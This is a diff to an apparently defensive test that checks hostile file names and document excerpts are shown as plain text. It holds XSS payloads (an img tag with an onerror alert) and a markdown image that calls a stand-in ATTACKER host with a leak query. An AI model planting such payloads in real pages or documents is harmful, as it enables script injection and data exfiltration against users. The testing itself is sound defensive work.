@@ -43,7 +43,8 @@ def test_hostile_documents_and_names_are_shown_as_text(visiting: Visiting) -> No
 
         assert "docs/<img src=x onerror=alert(1)>.md" in names
         assert "docs/pirategnp.md" in names
-        assert any(f"![x](http://{ATTACKER}/?leak)" in excerpt for excerpt in page.texts(".source .excerpt"))
+        said = f"![x](http://{ATTACKER}/?leak), <img src=x onerror=alert(2)> and x"
+        assert any(said in excerpt.replace("`", "") for excerpt in page.texts(".source .excerpt"))
         assert page.value("document.querySelectorAll('#result :is(img, script, svg, iframe, b)').length") == 0
         assert [request for request in seen.requests if not request.startswith(visit.url)] == []
         assert (seen.dialogs, seen.errors, seen.violations, seen.console) == ([], [], [], [])
